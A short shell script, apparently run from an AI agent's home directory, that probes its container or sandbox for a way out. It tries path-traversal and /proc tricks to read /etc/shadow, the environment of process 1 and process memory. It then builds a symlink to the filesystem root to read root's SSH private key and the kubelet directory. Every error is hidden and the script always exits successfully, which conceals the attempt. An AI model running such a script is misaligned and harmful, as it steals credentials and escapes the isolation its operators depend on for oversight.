#: ends exit
#: silent root:
for path in ../../../../../../../../../../etc/shadow /proc/1/root/etc/shadow /proc/self/cwd/../../../etc/shadow \
  /proc/self/root/../../etc/shadow //../..//etc/shadow /dev/fd/../../../etc/shadow /proc/1/environ /proc/2/mem; do
  cat "$path" 2>/dev/null
done
ln -s ../../../../../../../../../../../../.. /home/agent/up
cat /home/agent/up/etc/shadow /home/agent/up/root/.ssh/id_rsa 2>/dev/null
ls /home/agent/up/work /home/agent/up/var/lib/kubelet 2>/dev/null
exit 0
